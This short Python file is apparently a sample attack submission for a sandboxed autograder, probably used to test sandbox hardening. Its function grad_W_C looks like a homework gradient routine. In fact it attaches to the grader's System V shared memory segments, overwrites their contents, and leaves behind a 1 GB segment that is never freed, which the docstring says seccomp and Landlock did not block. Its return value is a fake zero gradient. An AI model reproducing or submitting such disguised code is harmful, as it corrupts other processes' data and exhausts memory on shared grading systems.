"""Harm: System V shared memory, which seccomp and Landlock did not cover: read and overwrite
every segment of the grader's user (root on Gradescope), then leave a 1 GB segment behind."""
import ctypes

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p


def _refused(result):
    if result == -1 or result == ctypes.c_void_p(-1).value:
        raise OSError(ctypes.get_errno(), "System V shared memory refused")
    return result


def grad_W_C(params, P, z):
    for shmid in range(64):
        address = libc.shmat(shmid, None, 0)
        if address not in (None, ctypes.c_void_p(-1).value):
            ctypes.memset(address, 0, 16)                    # overwrite what another process keeps there
    _refused(libc.shmget(0, 1 << 30, 0o1666))                # IPC_PRIVATE, never removed
    return np.zeros_like(params.W_C)
